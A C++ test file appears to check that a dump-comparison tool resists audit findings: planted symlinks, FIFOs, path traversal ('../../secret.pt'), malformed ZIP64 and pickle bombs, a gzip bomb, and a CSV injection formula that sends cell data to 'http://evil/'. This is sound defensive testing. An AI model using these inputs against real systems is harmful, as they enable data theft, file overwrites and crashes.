// `faultctl compare` on dumps a less trusted job wrote, run by an operator who is root: each
// case is an attack of the second security audit (N1, N3, N4, N5, N9, N10) on real files in a
// scratch directory. A FIFO stands in for a device: inotify tells whether anything opened it,
// which is what must never happen (a device's driver runs on open).
#include <catch2/catch.hpp>

#include <fcntl.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>
#include <zlib.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <new>
#include <sstream>
#include <stdexcept>
#include <string>
#include <vector>

#include "compare/cli.hpp"
#include "compare/compare.hpp"
#include "compare/dump.hpp"
#include "compare/job_files.hpp"
#include "compare/python_text.hpp"
#include "compare/ranks.hpp"
#include "compare/tensor.hpp"
#include "tests/support/compare_files.hpp"
#include "tests/support/temp_dir.hpp"

namespace cmp = faultd::compare;
namespace fs = std::filesystem;
using faultd::testing::pt_file;
using faultd::testing::raw_bytes;
using faultd::testing::stored_zip;
using faultd::testing::TempDir;

namespace {

std::string read_all(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

// Watches a path for opens; the watch itself opens nothing.
class OpenWatch {
 public:
  explicit OpenWatch(const fs::path& p) : fd_(inotify_init1(IN_NONBLOCK | IN_CLOEXEC)) {
    REQUIRE(fd_ >= 0);
    REQUIRE(inotify_add_watch(fd_, p.c_str(), IN_OPEN) >= 0);
  }
  ~OpenWatch() { ::close(fd_); }
  OpenWatch(const OpenWatch&) = delete;
  OpenWatch& operator=(const OpenWatch&) = delete;
  bool opened() const {
    alignas(inotify_event) char buf[4096];
    return ::read(fd_, buf, sizeof buf) > 0;
  }

 private:
  int fd_;
};

std::string leaf(const std::string& data_name) {
  return R"({"type": "torch.Tensor", "dtype": "torch.float32", "shape": [4], "Max": 4, "Min": 1, )"
         R"("Mean": 2.5, "Norm": 5.4, "requires_grad": false, "data_name": ")" +
         data_name + R"("})";
}

// A msprobe tensor-mode rank: one API whose output's data_name is `data_name`.
void tensor_rank(const TempDir& dir, const std::string& rank, const std::string& data_name) {
  dir.write(rank + "/dump.json",
            R"({"task": "tensor", "level": "L1", "framework": "pytorch", "data": {)"
            R"("Tensor.add.0.forward": {"input_args": [], "output": [)" +
                leaf(data_name) + "]}}}");
}

const std::string kTensorName = "Tensor.add.0.forward.output.0.pt";
const std::string kFour =
    pt_file("FloatStorage", raw_bytes(std::vector<float>{1, 2, 3, 4}), {4}, {1}, 0, 4);

int compare(const std::vector<std::string>& args, std::string* err_text = nullptr,
            std::string* out_text = nullptr) {
  std::ostringstream out, err;
  const int rc = cmp::run_compare_command(args, false, out, err);
  if (err_text != nullptr) *err_text = err.str();
  if (out_text != nullptr) *out_text = out.str();
  return rc;
}

std::string why(const std::function<void()>& f) {
  try {
    f();
  } catch (const cmp::InputError& e) {
    return e.what();
  }
  return "";
}

}  // namespace

// N1: the job plants links (and files) where the results go; root must not write through them.
TEST_CASE("compare --output never writes through a planted link or over a file",
          "[compare][security]") {
  TempDir dir;
  const std::string victim = dir.write("victim", "root-owned original content\n");
  for (const char* side : {"npu", "bench"}) {
    for (const char* rank : {"rank0", "rank1"}) {
      tensor_rank(dir, std::string(side) + "/step0/" + rank, kTensorName);
      dir.write(std::string(side) + "/step0/" + rank + "/dump_tensor_data/" + kTensorName, kFour);
    }
  }
  const std::string npu = dir.file("npu/step0"), bench = dir.file("bench/step0");
  fs::create_directories(dir.path() / "job/results");
  fs::create_symlink(victim, dir.path() / "job/results/compare_result_rank0.csv");
  std::string err;
  CHECK(compare({npu, bench, "-o", "csv", "--output", dir.file("job/results")}, &err) == 2);
  CHECK(read_all(victim) == "root-owned original content\n");
  CHECK(err.find("compare_result_rank0.csv: already exists (or is a link)") != std::string::npos);
  CHECK(err.find("--overwrite") != std::string::npos);

  // Asked to replace: the link itself is replaced by a fresh file, the victim stays.
  CHECK(compare({npu, bench, "-o", "csv", "--output", dir.file("job/results"), "--overwrite"},
                &err) == 0);
  CHECK(read_all(victim) == "root-owned original content\n");
  CHECK(
      fs::is_regular_file(fs::symlink_status(dir.path() / "job/results/compare_result_rank0.csv")));
  CHECK(read_all(dir.path() / "job/results/compare_result_rank1.csv").rfind("NPU Name,", 0) == 0);

  // A single file, and an output directory that is itself a link.
  fs::create_symlink(victim, dir.path() / "job/one.json");
  CHECK(compare(
            {npu + "/rank0", bench + "/rank0", "-o", "json", "--output", dir.file("job/one.json")},
            &err) == 2);
  CHECK(read_all(victim) == "root-owned original content\n");
  fs::create_symlink(dir.path() / "elsewhere", dir.path() / "job/linked");
  fs::create_directories(dir.path() / "elsewhere");
  CHECK(compare({npu, bench, "-o", "csv", "--output", dir.file("job/linked")}, &err) == 2);
  CHECK(err.find("a symbolic link: not followed") != std::string::npos);
  CHECK(fs::is_empty(dir.path() / "elsewhere"));
}

// N3: data_name is the job's; so are the FIFOs and links in its tree.
TEST_CASE("compare opens no FIFO, device or link a job names, and keeps data_name in its folder",
          "[compare][security]") {
  TempDir dir;
  const fs::path fifo = dir.path() / "fifo";
  REQUIRE(mkfifo(fifo.c_str(), 0666) == 0);
  // A writer end held open, so that a reader's open would not block the test: it would only
  // be seen.
  const int held = ::open(fifo.c_str(), O_RDWR | O_NONBLOCK | O_CLOEXEC);
  REQUIRE(held >= 0);
  OpenWatch watch(fifo);
  while (watch.opened()) {
  }
  dir.write("secret.pt", kFour);  // outside both dumps

  for (const auto& [name, expect] : std::vector<std::pair<std::string, std::string>>{
           {fifo.string(), "data_name must be a file name"},
           {"../../secret.pt", "data_name must be a file name"},
           {"fifo-link.pt", "a symbolic link"},
           {"fifo.pt", "a FIFO, not a regular file: not opened"}}) {
    INFO(name);
    TempDir d;
    tensor_rank(d, "npu", name);
    tensor_rank(d, "bench", name);
    for (const char* side : {"npu", "bench"}) {
      fs::create_directories(d.path() / side / "dump_tensor_data");
      fs::create_symlink(fifo, d.path() / side / "dump_tensor_data/fifo-link.pt");
      // The same FIFO under a dump name (a hard link: the watch sees its opens).
      fs::create_hard_link(fifo, d.path() / side / "dump_tensor_data/fifo.pt");
    }
    const auto rc = cmp::compare_dumps(cmp::read_dump(d.path() / "npu"),
                                       cmp::read_dump(d.path() / "bench"), {});
    REQUIRE(rc.rows.size() == 1);
    CHECK(rc.rows[0].unreadable);
    REQUIRE(rc.notes.size() == 1);
    CHECK(rc.notes[0].find(expect) != std::string::npos);
  }
  CHECK_FALSE(watch.opened());

  // A dump file that is a FIFO: refused, not read (a reader's open would hang).
  TempDir d;
  fs::create_hard_link(fifo, d.path() / "api_stack.pkl");
  std::string err;
  CHECK(compare({d.file("api_stack.pkl"), d.file("api_stack.pkl")}, &err) == 2);
  CHECK(err.find("a FIFO, not a regular file: not opened") != std::string::npos);
  CHECK_FALSE(watch.opened());
  ::close(held);
}

TEST_CASE("job files: only a flat data_name; a link as the data folder is not followed",
          "[compare][security]") {
  CHECK_FALSE(cmp::bad_data_name("Tensor.add.0.forward.output.0.pt"));
  CHECK_FALSE(cmp::bad_data_name("a..b.npy"));
  for (const char* bad : {"", ".", "..", "/dev/zero", "../x.pt", "sub/x.pt"}) {
    CHECK(cmp::bad_data_name(bad));
  }
  TempDir dir;
  dir.write("real/" + kTensorName, kFour);
  fs::create_directories(dir.path() / "rank0");
  fs::create_symlink(dir.path() / "real", dir.path() / "rank0/dump_tensor_data");
  CHECK(why([&] {
          cmp::read_dump_tensor(dir.path() / "rank0/dump_tensor_data", kTensorName);
        }).find("a symbolic link: not followed") != std::string::npos);
  CHECK(cmp::read_dump_tensor(dir.path() / "real", kTensorName).count == 4);
}

// N4: the three crashes, each from the audit's input.
TEST_CASE(".pt reader: a 42-byte ZIP64 end record is refused, not dereferenced",
          "[compare][security]") {
  std::string zip;
  faultd::testing::put32(zip, 0x07064b50);  // ZIP64 locator: disk, offset 0x4141..., disks
  faultd::testing::put32(zip, 0);
  faultd::testing::put32(zip, 0x41414141);
  faultd::testing::put32(zip, 0x41414141);
  faultd::testing::put32(zip, 1);
  faultd::testing::put32(zip, 0x06054b50);  // end record: entries 0xFFFF, offset 0xFFFFFFFF
  faultd::testing::put16(zip, 0);
  faultd::testing::put16(zip, 0);
  faultd::testing::put16(zip, 0xFFFF);
  faultd::testing::put16(zip, 0xFFFF);
  faultd::testing::put32(zip, 0);
  faultd::testing::put32(zip, 0xFFFFFFFF);
  faultd::testing::put16(zip, 0);
  REQUIRE(zip.size() == 42);
  CHECK(why([&] {
          cmp::parse_pt(cmp::Bytes::copy_of(zip), "t.pt");
        }).find("bad ZIP64 end record") != std::string::npos);
}

TEST_CASE(".pt reader: a stride whose extent wraps is refused", "[compare][security]") {
  // Shape [2^24 + 1], stride [2^40], a 4-byte storage: (2^24) * 2^40 wraps to 0.
  std::string pkl = std::string("\x80\x02", 2) + "ctorch._utils\n_rebuild_tensor_v2\n((" +
                    faultd::testing::pickle_str("storage") + "ctorch\nFloatStorage\n" +
                    faultd::testing::pickle_str("0") + faultd::testing::pickle_str("cpu") +
                    std::string("K\x01tQK\x00(J", 8);
  faultd::testing::put32(pkl, (1u << 24) + 1);
  pkl += std::string("t(\x8a\x06\x00\x00\x00\x00\x00\x01", 10) + "t\x89" +
         "ccollections\nOrderedDict\n)RtR.";
  const std::string pt =
      stored_zip({{"archive/data.pkl", pkl}, {"archive/data/0", std::string(4, '\0')}});
  CHECK(why([&] { cmp::parse_pt(cmp::Bytes::copy_of(pt), "t.pt"); }).find("too large") !=
        std::string::npos);
}

TEST_CASE(".pt reader: pickle nesting is capped, and a deep tree is freed", "[compare][security]") {
  const std::string nested = std::string("\x80\x02N", 3) + std::string(200000, '\x85') + ".";
  const std::string pt = stored_zip({{"archive/data.pkl", nested}});
  CHECK(why([&] {
          cmp::parse_pt(cmp::Bytes::copy_of(pt), "t.pt");
        }).find("nested deeper than 64") != std::string::npos);
  // 64 deep is still read (and holds no tensor).
  const std::string ok = std::string("\x80\x02N", 3) + std::string(64, '\x85') + ".";
  CHECK(why([&] {
          cmp::parse_pt(cmp::Bytes::copy_of(stored_zip({{"a/data.pkl", ok}})), "t.pt");
        }).find("holds no tensor") != std::string::npos);
}

// N5: bombs.
TEST_CASE(".pt reader: a pickle that doubles a string is stopped at the text cap",
          "[compare][security]") {
  // X(64 KiB) memoized, then STACK_GLOBAL of it with itself, memoized, 40 times: 64 KiB * 2^40.
  std::string pkl = std::string("\x80\x02", 2) + "X";
  faultd::testing::put32(pkl, 65536);
  pkl += std::string(65536, 'a') + std::string("q\x00", 2);
  for (int k = 0; k < 40; ++k) pkl += std::string("h\x00h\x00\x93q\x00", 7);
  pkl += ".";
  CHECK(why([&] {
          cmp::parse_pt(cmp::Bytes::copy_of(stored_zip({{"a/data.pkl", pkl}})), "t.pt");
        }).find("name too long") != std::string::npos);
}

TEST_CASE("job files: a text file is read up to a cap, decompressed bytes counted",
          "[compare][security]") {
  TempDir dir;
  // 4 MiB of zeros in a few KiB of gzip.
  const std::string gz = dir.file("dump.json.gz");
  gzFile g = gzopen(gz.c_str(), "wb9");
  REQUIRE(g != nullptr);
  const std::string mib(1 << 20, ' ');
  for (int i = 0; i < 4; ++i) gzwrite(g, mib.data(), static_cast<unsigned>(mib.size()));
  gzclose(g);
  REQUIRE(fs::file_size(gz) < size_t{64} * 1024);
  {
    const cmp::UniqueFd fd = cmp::open_job_file(gz);
    CHECK(why([&] {
            cmp::read_capped(fd.get(), gz, 1 << 20, true);
          }).find("more than 1 MiB once decompressed") != std::string::npos);
  }
  // A sparse dump.json far over the cap is refused from its size, before any read.
  const std::string sparse = dir.file("rank0/dump.json");
  dir.write("rank0/dump.json", "");
  fs::resize_file(sparse, cmp::kMaxTextBytes + 1);
  CHECK(why([&] { cmp::read_dump(sparse); }).find("more than 1024 MiB") != std::string::npos);
  // A link to /dev/zero as a dump file: not followed.
  fs::create_directories(dir.path() / "rank1");
  fs::create_symlink("/dev/zero", dir.path() / "rank1/x.pkl");
  CHECK(why([&] { cmp::read_dump(dir.path() / "rank1"); }).find("a symbolic link") !=
        std::string::npos);
}

TEST_CASE("job files: a very sparse tensor file is refused", "[compare][security]") {
  TempDir dir;
  // A .npy header claiming 2^28 float32, the data a hole.
  std::string npy = faultd::testing::npy_file("<f4", "(268435456,)", "");
  const std::string path = dir.write("t/x.npy", npy);
  fs::resize_file(path, npy.size() + (size_t{1} << 30));
  CHECK(why([&] { cmp::read_dump_tensor(dir.path() / "t", "x.npy"); }).find("a sparse file") !=
        std::string::npos);
}

TEST_CASE("compare: out of memory and unexpected errors exit 2, never 1 (a suspect)",
          "[compare][security]") {
  TempDir dir;
  for (int r = 0; r < 3; ++r) {
    const std::string rank = "step/rank" + std::to_string(r);
    tensor_rank(dir, rank, kTensorName);
    const float last = r == 2 ? 9.0f : 4.0f;
    dir.write(
        rank + "/dump_tensor_data/" + kTensorName,
        pt_file("FloatStorage", raw_bytes(std::vector<float>{1, 2, 3, last}), {4}, {1}, 0, 4));
  }
  for (int kind = 0; kind < 2; ++kind) {
    std::ostringstream out, err;
    const cmp::Reporter throws = [kind](const cmp::ReplicaReport&, const std::string&,
                                        const std::string&) -> cmp::ReportResult {
      if (kind == 0) throw std::bad_alloc();
      throw std::logic_error("boom");
    };
    CHECK(cmp::run_compare_command(
              {"--replicas", dir.file("step"), "--report", "--device", "rank2=2"}, false, out, err,
              throws) == cmp::kExitInputError);
    CHECK(err.str().find(kind == 0 ? "out of memory" : "unexpected error: boom") !=
          std::string::npos);
  }
}

// N9: an unreadable tensor is not a pass.
TEST_CASE("compare: a tensor that cannot be read is a warning, exit 1, named in the summary",
          "[compare][security]") {
  TempDir dir;
  tensor_rank(dir, "npu", kTensorName);
  tensor_rank(dir, "bench", kTensorName);
  dir.write("npu/dump_tensor_data/" + kTensorName, "not a zip");
  dir.write("bench/dump_tensor_data/" + kTensorName, kFour);
  std::string err, out;
  CHECK(compare({dir.file("npu"), dir.file("bench")}, &err, &out) == 1);
  CHECK(out.find("1 warning") != std::string::npos);
  CHECK(out.find("1 row(s) with a tensor file that could not be read") != std::string::npos);
  CHECK(out.find("note: " + dir.file("npu/dump_tensor_data/" + kTensorName)) != std::string::npos);

  // Replicas: every replica's file unreadable is no agreement either.
  TempDir rep;
  for (int r = 0; r < 3; ++r) {
    const std::string rank = "step/rank" + std::to_string(r);
    tensor_rank(rep, rank, kTensorName);
    rep.write(rank + "/dump_tensor_data/" + kTensorName, "not a zip");
  }
  CHECK(compare({"--replicas", rep.file("step")}, &err, &out) == 1);
  CHECK(out.find("3 tensor file(s) could not be read") != std::string::npos);
}

// N10: formulas in a job's names.
TEST_CASE("CSV: a cell a spreadsheet would run is neutralised, numbers keep their sign",
          "[compare][security]") {
  CHECK(cmp::csv_field(R"(=HYPERLINK("http://evil/?"&A1,"x").0.forward)") ==
        R"("'=HYPERLINK(""http://evil/?""&A1,""x"").0.forward")");
  CHECK(cmp::csv_field("@SUM(A1)") == "'@SUM(A1)");
  CHECK(cmp::csv_field("+cmd") == "'+cmd");
  CHECK(cmp::csv_field("-x") == "'-x");
  CHECK(cmp::csv_field("\tx") == "'\tx");
  CHECK(cmp::csv_field("\r=1") == "\"'\r=1\"");
  for (const char* number : {"-0.5", "-1e-05", "-inf", "+1", "-nan", "0.25"}) {
    CHECK(cmp::csv_field(number) == number);
  }
  CHECK(cmp::csv_field("Torch.add.0.forward") == "Torch.add.0.forward");
}
